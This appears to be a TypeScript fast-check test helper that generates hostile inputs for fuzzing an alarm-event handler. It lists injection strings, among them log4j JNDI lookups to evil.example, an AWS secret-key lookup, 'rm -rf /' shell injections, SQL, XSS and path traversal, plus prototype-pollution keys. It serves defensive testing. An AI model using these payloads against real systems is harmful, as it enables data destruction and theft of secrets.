/**
 * Hostile input: strings an attacker or a broken producer sends, values of the wrong type, keys
 * that trip JavaScript objects, and mutations of real documents (drop keys at any depth, change
 * types, oversize, inject). Everything is a fast-check arbitrary, so failures shrink.
 */
import fc from 'fast-check';

/** Strings that mean something to some other interpreter (Slack, SQL, log4j, shells, paths, templates). */
export const INJECTIONS = [
  '<!channel>',
  '<!here|here>',
  '<@U024BE7LH>',
  '<https://evil.example|click>',
  '*bold* _it_ ~s~ `code` ```block```',
  "'; DROP TABLE alarms;--",
  '" OR 1=1 --',
  '${jndi:ldap://evil.example/a}',
  '${env:AWS_SECRET_ACCESS_KEY}',
  '{{7*7}}',
  '#{7*7}',
  '%s%s%s%n',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/zero',
  '$(rm -rf /)',
  '`reboot`',
  '; rm -rf / #',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  '\u0000',
  '\u0007bell',
  'line\nbreak',
  'cr\rlf',
  'tab\there',
  '\u001b[31mred\u001b[0m',
  '\u0085',
  '\u2028\u2029',
  '\u202eevil\u202c',
  '\ufeffbom',
  '\ud800',
  '\udfff',
  '😀',
  'ﬁ',
  'Ω',
  '',
  ' ',
  '   padded   ',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
] as const;

/** Keys that trip objects built from input, keys that make paths ambiguous or forge lines, and long keys. */
const HOSTILE_KEYS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '', ' ', 'a.b', '[0]', 'x]', '\u0000', 'ключ', '😀',
  'Records', 'detail', 'alarmData', 'x\n(root): forged issue', 'k'.repeat(300), 'k'.repeat(5_000),
] as const;

/** A string of up to ~100 KB, made cheaply (generating 100 KB character by character is slow). */
const oversizedString = fc
  .tuple(fc.integer({ min: 256, max: 100_000 }), fc.constantFrom('a', 'é', '😀', '\u0000', ' ', 'x\n', '<!channel>'), fc.constantFrom('', '"', '\\', '\ud800'))
  .map(([length, unit, tail]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length) + tail);

export const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }), weight: 1 },
  { arbitrary: fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ unit: 'binary', maxLength: 8 })).map(([a, b]) => a + b), weight: 2 },
  { arbitrary: oversizedString, weight: 1 },
);

export const hostileKey = fc.oneof(fc.constantFrom(...HOSTILE_KEYS), fc.string({ unit: 'binary', maxLength: 12 }));

/** An object with an own `__proto__` key, as JSON.parse makes one. */
const protoObject = fc.jsonValue({ maxDepth: 1 }).map((value) => JSON.parse(`{"__proto__": ${JSON.stringify(value) ?? 'null'}, "polluted": true}`) as unknown);

/** Arrays nested deep enough to hurt a recursive walker, shallow enough to stay fast. */
const deepArray = fc.integer({ min: 50, max: 800 }).map((depth) => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`) as unknown);

/** Values of every type, including ones JSON cannot carry (a Lambda can be invoked in-process). */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 5 },
  { arbitrary: fc.jsonValue({ maxDepth: 2 }), weight: 3 },
  { arbitrary: fc.constantFrom<unknown>(null, undefined, true, false, 0, -0, -1, 1.5, NaN, Infinity, -Infinity, 2 ** 53, -(2 ** 63), 10n), weight: 2 },
  { arbitrary: fc.constantFrom(() => [], () => ({}), () => [[]], () => [{}], () => new Date(NaN), () => Object.create(null) as object).map((make) => make()), weight: 1 },
  { arbitrary: fc.double(), weight: 1 },
  { arbitrary: fc.integer(), weight: 1 },
  { arbitrary: protoObject, weight: 1 },
  { arbitrary: deepArray, weight: 1 },
  { arbitrary: fc.anything({ maxDepth: 2, withBigInt: true, withBoxedValues: true, withDate: true, withMap: true, withSet: true, withNullPrototype: true, withSparseArray: true, withTypedArray: true, withObjectString: true, stringUnit: 'binary' }), weight: 1 },
);

/** Anything at all, with every exotic kind fast-check knows. */
export const anyValue = fc.oneof(
  fc.anything({ withBigInt: true, withBoxedValues: true, withDate: true, withMap: true, withSet: true, withNullPrototype: true, withSparseArray: true, withTypedArray: true, withObjectString: true, stringUnit: 'binary' }),
  fc.jsonValue(),
  hostileValue,
);

// ---- Mutations of a real document -------------------------------------------------------------

/** A JSON string field that carries a JSON document (SNS `Message`): mutations go inside it. */
export class EmbeddedJson {
  constructor(public value: unknown) {}
}

/**
 * One change at one place. `route` picks the place: from the root, each number chooses a child
 * (modulo the number of children) until the route or the document ends, so depths vary evenly.
 */
export type Mutation = { route: number[] } & (
  | { op: 'delete' }
  | { op: 'replace'; value: unknown }
  | { op: 'insert'; key: string; value: unknown }
  | { op: 'truncate'; keep: number }
  | { op: 'retype'; how: 'stringify' | 'wrap' | 'number' | 'values' | 'null-prototype' }
  | { op: 'duplicate' }
);

const route = fc.array(fc.nat(), { maxLength: 10 });

const mutation = (value: fc.Arbitrary<unknown> = hostileValue): fc.Arbitrary<Mutation> =>
  fc.oneof(
    { arbitrary: fc.record({ op: fc.constant('delete' as const), route }), weight: 4 },
    { arbitrary: fc.record({ op: fc.constant('replace' as const), route, value }), weight: 5 },
    { arbitrary: fc.record({ op: fc.constant('insert' as const), route, key: hostileKey, value }), weight: 2 },
    { arbitrary: fc.record({ op: fc.constant('truncate' as const), route, keep: fc.nat({ max: 4 }) }), weight: 2 },
    { arbitrary: fc.record({ op: fc.constant('retype' as const), route, how: fc.constantFrom('stringify', 'wrap', 'number', 'values', 'null-prototype') }), weight: 2 },
    { arbitrary: fc.record({ op: fc.constant('duplicate' as const), route }), weight: 1 },
  ) as fc.Arbitrary<Mutation>;

/** A plain object or array we may walk into and change (not a Map, a Date, a boxed string...); callers test arrays first. */
function isPlain(value: unknown): value is Record<string, unknown> {
  if (Array.isArray(value)) return true;
  if (typeof value !== 'object' || value === null) return false;
  const proto = Object.getPrototypeOf(value) as unknown;
  return proto === Object.prototype || proto === null;
}

/** A private copy of a generated value (fast-check reuses values while shrinking; mutations must not leak). */
function fresh(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(fresh);
  if (!isPlain(value)) return value;
  const copy = Object.create(Object.getPrototypeOf(value) as object | null) as Record<string, unknown>;
  for (const key of Object.keys(value)) put(copy, key, fresh(value[key]));
  return copy;
}

/** JSON text of any value (bigints as numbers; what JSON cannot hold, as String() does). */
export function safeJson(value: unknown): string {
  try {
    return JSON.stringify(value, (_k, v: unknown) => (typeof v === 'bigint' ? Number(v) : v)) ?? 'undefined';
  } catch {
    return String(value);
  }
}

type Slot = { parent: Record<string | number, unknown> | unknown[] | EmbeddedJson | null; key: string | number; value: unknown };

/** Follows `route` from the root to the place a mutation applies to; EmbeddedJson is entered. */
function locate(root: { value: unknown }, steps: readonly number[]): Slot {
  let slot: Slot = { parent: root as unknown as Slot['parent'], key: 'value', value: root.value };
  for (const step of steps) {
    const { value } = slot;
    if (value instanceof EmbeddedJson) {
      slot = { parent: value, key: 'value', value: value.value };
      continue;
    }
    if (!isPlain(value)) break;
    const keys = Array.isArray(value) ? value.map((_, index) => index) : Object.keys(value);
    if (keys.length === 0) break;
    const key = keys[step % keys.length]!;
    slot = { parent: value, key, value: (value as Record<string | number, unknown>)[key] };
  }
  return slot;
}

function put(parent: Slot['parent'], key: string | number, value: unknown): void {
  if (parent === null) return;
  // defineProperty makes an own key even for `__proto__`, as JSON.parse does.
  Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
}

function retyped(value: unknown, how: Extract<Mutation, { op: 'retype' }>['how']): unknown {
  switch (how) {
    case 'stringify':
      return value instanceof EmbeddedJson ? value.value : safeJson(value);
    case 'wrap':
      return [value];
    case 'number':
      return typeof value === 'string' ? Number(value) : typeof value === 'number' ? String(value) : 1;
    case 'values':
      if (Array.isArray(value)) return Object.fromEntries(Array.from(value, (v, i) => [String(i), v]));
      return isPlain(value) ? Object.values(value) : { value };
    case 'null-prototype':
      return isPlain(value) && !Array.isArray(value) ? Object.assign(Object.create(null) as object, value) : value;
  }
}

/** Applies the mutations in order to a fresh copy of `base` (a function returning a new document). */
export function mutate(base: () => unknown, mutations: readonly Mutation[]): unknown {
  const root = { value: base() };
  for (const change of mutations) {
    const { parent, key, value } = locate(root, change.route);
    switch (change.op) {
      case 'delete':
        if (parent === root) root.value = undefined;
        else if (Array.isArray(parent)) parent.splice(Number(key), 1);
        else if (parent instanceof EmbeddedJson) put(parent, 'value', undefined);
        else if (parent) delete (parent as Record<string, unknown>)[key];
        break;
      case 'replace':
        put(parent, key, fresh(change.value));
        break;
      case 'insert':
        if (Array.isArray(value)) value.push(fresh(change.value));
        else if (isPlain(value)) put(value, change.key, fresh(change.value));
        else put(parent, key, fresh(change.value));
        break;
      case 'truncate':
        if (typeof value === 'string') put(parent, key, value.slice(0, change.keep));
        else if (Array.isArray(value)) value.length = Math.min(value.length, change.keep);
        else if (isPlain(value)) {
          for (const drop of Object.keys(value).slice(change.keep)) delete (value as Record<string, unknown>)[drop];
        }
        break;
      case 'retype':
        put(parent, key, retyped(value, change.how));
        break;
      case 'duplicate':
        if (Array.isArray(parent)) parent.splice(Number(key), 0, value);
        else put(parent, key, [value, value]);
        break;
    }
  }
  return seal(root.value);
}

/** Turns EmbeddedJson back into the JSON string it stands for. */
function seal(value: unknown): unknown {
  if (value instanceof EmbeddedJson) {
    // A Message whose document was deleted is no string at all; anything else is JSON text again.
    return value.value === undefined ? undefined : safeJson(seal(value.value));
  }
  if (Array.isArray(value)) {
    for (let i = 0; i < value.length; i++) {
      if (!(i in value)) continue;
      const sealed = seal(value[i]);
      if (sealed !== value[i]) value[i] = sealed;
    }
  } else if (isPlain(value)) {
    for (const key of Object.keys(value)) {
      const sealed = seal(value[key]);
      if (sealed !== value[key]) put(value, key, sealed);
    }
  }
  return value;
}

export const mutations = (value?: fc.Arbitrary<unknown>) => fc.array(mutation(value), { minLength: 1, maxLength: 6 });
